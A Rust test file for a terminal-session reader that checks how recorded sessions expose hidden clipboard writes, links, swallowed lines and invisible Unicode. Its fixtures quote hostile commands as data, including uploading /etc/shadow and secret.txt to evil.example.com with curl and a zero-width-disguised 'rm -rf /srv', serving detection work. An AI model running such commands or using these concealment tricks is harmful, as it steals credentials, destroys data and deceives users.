//! What real people's terminal sessions did to readers like this one (`reports/` beside the repository): each must read
//! as its `right.md` says, or, where that says nothing, as a person would read it.

mod support;

use sessionscope::terminal::answer::{HiddenKind, RowKind};
use sessionscope::terminal::{Transcripts, Work};
use std::path::Path;
use support::cases::files_below;
use support::not_run::not_run;
use support::terminal::{Opened, text, texts};

/// What is right about the text of a session.
#[derive(Debug)]
enum Right {
    /// A line, by its number from 0.
    Line(usize, &'static str),
    /// All lines with text, one after the other.
    Lines(&'static [&'static str]),
    /// The probable commands.
    Commands(&'static [&'static str]),
    /// A text that is not shown, and what it is.
    Hidden(HiddenKind, &'static str),
    /// A line that a terminal would not have shown.
    Swallowed(HiddenKind, &'static str),
    /// How many lines and hidden texts a search finds.
    Found(&'static str, u64),
    /// The columns of its screen.
    Columns(u32),
}

use Right::{Columns, Commands, Found, Hidden, Line, Lines, Swallowed};

const ALICE: &str = "alice-0a1b2c3d4e5f67890";

/// A session of several messages a second.
const BIG: &[&str] = &[
    "sh-4.2$ cat big",
    "line 0",
    "line 1",
    "line 2",
    "line 3",
    "line 4",
    "line 5",
    "line 6",
    "line 7",
    "line 8",
    "line 9",
    "line 10",
    "line 11",
    "sh-4.2$ rm big",
];

/// What is right about each report.
const RIGHT: &[(&str, &str, &[Right])] = &[
    (
        "b04-osc52-osc8",
        ALICE,
        &[
            Lines(&["sh-5.2$ ./copy.sh /etc/shadow", "copied", "see docs here", "sh-5.2$ exit"]),
            Hidden(HiddenKind::Clipboard, "c;QkVHSU4gUFJJVkFURSBLRVkgZmFrZQ=="),
            Hidden(HiddenKind::Clipboard, "BEGIN PRIVATE KEY fake"),
            Hidden(HiddenKind::Link, "https://evil.example.com/dl"),
            Hidden(HiddenKind::File, "secret.txt: hello"),
            Found("private key", 1),
            Found("evil.example.com", 1),
        ],
    ),
    (
        "b15-esc-k-title",
        ALICE,
        &[
            Lines(&["sh-5.2$ ls", "a.txt", "sh-5.2$ exit"]),
            Commands(&["ls", "exit"]),
            Hidden(HiddenKind::Title, "bash"),
        ],
    ),
    (
        "b20-swallow",
        ALICE,
        &[
            Line(0, r#"sh-4.2$ printf "\033P""#),
            Swallowed(HiddenKind::DeviceControl, "root:$6$secret:19000::::::"),
            Hidden(HiddenKind::DeviceControl, "sh-4.2$ curl -T /etc/shadow https://evil.example.com/"),
            Commands(&[
                r#"printf "\033P""#,
                "cat /etc/shadow",
                "curl -T /etc/shadow https://evil.example.com/",
                "exit",
            ]),
            Found("evil.example.com", 1),
        ],
    ),
    ("b17-control-asc", ALICE, &[Lines(BIG)]),
    ("b17-insights-desc", ALICE, &[Lines(BIG)]),
    ("b17-insights-desc-json", ALICE, &[Lines(BIG)]),
    ("b33-shift-out", ALICE, &[Lines(&["sh-4.2$ cat bin", "abcxyz", "sh-4.2$ exit"])]),
    (
        "b34-c1",
        ALICE,
        &[Lines(&["sh-4.2$ cat x", "red a", "nextend", "sh-4.2$ exit"]), Hidden(HiddenKind::Title, "title")],
    ),
    (
        "b17-control-asc",
        ALICE,
        &[
            Line(0, "sh-4.2$ cat big"),
            Line(1, "line 0"),
            Line(12, "line 11"),
            Commands(&["cat big", "rm big"]),
        ],
    ),
    ("b19-nul-japanese", "win-0a1b2c3d4e5f67896", &[Found("日本", 1), Commands(&["type memo.txt", "exit"])]),
    (
        "b39-invisible",
        ALICE,
        &[
            Line(0, "sh-5.2$ echo ok \u{202e} txt.exe\u{202c} done"),
            Line(1, "sh-5.2$ rm -\u{200b}rf /srv"),
            Line(2, "sh-5.2$ cat pass\u{ad}word.txt"),
        ],
    ),
    (
        "b02-nfd-combining",
        ALICE,
        &[Found("がぞう", 2), Found("cafe\u{301}", 1), Found("ส้ม", 1), Found("हिन्दी", 1)],
    ),
    (
        "b03-variation-selector",
        ALICE,
        &[
            Line(1, "\u{26a0}\u{fe0f}  prod"),
            Line(3, "👨\u{200d}💻|dev"),
            Line(4, "\u{26a0}\u{fe0f}   |col5"),
        ],
    ),
    (
        "b22-combining-edit",
        ALICE,
        &[Line(0, "sh-5.2$ cat Cafx"), Commands(&["cat Cafx", "echo cat ka\u{301}ra!", "exit"])],
    ),
    ("b23-wide120", ALICE, &[Columns(120), Found("xxxxxxxx y tail", 1), Found("  ", 0)]),
    (
        "b29-wide-cjk",
        ALICE,
        &[
            Line(
                0,
                "sh-5.2$ echo 日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語z",
            ),
            Found("0日本", 1),
        ],
    ),
    ("b31-wide-wrap", ALICE, &[Found("個人情報ファイル", 1), Found("い機密", 1)]),
    (
        "b36-cursor-up",
        ALICE,
        &[
            Lines(&["sh-4.2$ docker pull x", "a1: Done", "b2: Done", "sh-4.2$ exit"]),
            Hidden(HiddenKind::Replaced, "a1: Pulling"),
        ],
    ),
    ("b28-less", ALICE, &[Commands(&["seq 1 100 | less", "exit"]), Hidden(HiddenKind::Replaced, "1")]),
    ("b27-history", ALICE, &[Commands(&["echo one", "echo two", "id", "echo one", "exit"])]),
    (
        "b16-tmux",
        ALICE,
        &[
            Commands(&[
                "tmux -L hunt -f /dev/null new",
                "cat /etc/hostname",
                "curl -T secret.txt https://evil.example.com/",
                "clear",
                "exit",
                "echo back",
                "exit",
            ]),
            Hidden(HiddenKind::Replaced, "root@vm:~# cat /etc/hostname"),
        ],
    ),
    (
        "b35-prompts",
        ALICE,
        &[Commands(&[
            "whoami",
            "cat /etc/shadow",
            "ls",
            "id",
            "env",
            "select * from users;",
            "\\d",
            "ps",
            "x",
            "pip list",
            "vi",
            "dir",
            "rm -rf /srv",
            "git push",
        ])],
    ),
    (
        "b37-nested-script",
        ALICE,
        &[Commands(&["script", "id", "exit", "cat typescript", "id"]), Found("mallory", 1)],
    ),
];

fn faults(report: &str, id: &str, rights: &[Right]) -> Vec<String> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/reports").join(report);
    let mut files = files_below(&folder);
    files.retain(|file| file.path != "right.md");
    let opened = Opened::of(&files, id);
    let Some(info) = opened.infos.first() else { return vec![format!("{report}: there is no text of {id}")] };
    let rows = opened.rows(0);
    let lines: Vec<String> = rows.iter().map(text).collect();
    let mut all = Transcripts::default();
    all.gather(Work::of(texts(&files, None, 1 << 20)));
    let fault = |right: &Right| {
        let (is_right, found) = match right {
            Line(number, line) => (lines.get(*number).is_some_and(|own| own == line), format!("{lines:?}")),
            Lines(all) => {
                let found: Vec<&String> = lines.iter().filter(|line| !line.is_empty()).collect();
                (found == *all, format!("{found:?}"))
            }
            Commands(all) => {
                let found: Vec<&str> = info.commands.iter().map(|command| command.text.as_str()).collect();
                (found == *all, format!("{found:?}"))
            }
            Hidden(kind, text) => {
                let is_it =
                    info.hidden.iter().any(|hidden| (hidden.kind, hidden.text.as_str()) == (*kind, *text));
                (is_it, format!("{:?}", info.hidden))
            }
            Swallowed(kind, line) => {
                let is_it =
                    |(row, own): (usize, &String)| own == line && rows[row].kind == RowKind::Swallowed(*kind);
                (lines.iter().enumerate().any(is_it), format!("{lines:?}"))
            }
            Found(needle, count) => {
                let found = all.find(needle);
                (found.total == *count, format!("{found:?}"))
            }
            Columns(columns) => (info.size.0 == *columns, format!("{:?}", info.size)),
        };
        (!is_right).then(|| format!("{report}: {right:?} is right, and found is {found}"))
    };
    rights.iter().filter_map(fault).collect()
}

#[test]
fn every_terminal_report_reads_as_it_should() {
    const NAME: &str = "every_terminal_report_reads_as_it_should";
    if !Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/reports").is_dir() {
        return not_run(NAME, "there are no reports beside the repository");
    }
    let found: Vec<String> =
        RIGHT.iter().flat_map(|(report, id, rights)| faults(report, id, rights)).collect();
    assert!(found.is_empty(), "{}", found.join("\n"));
}
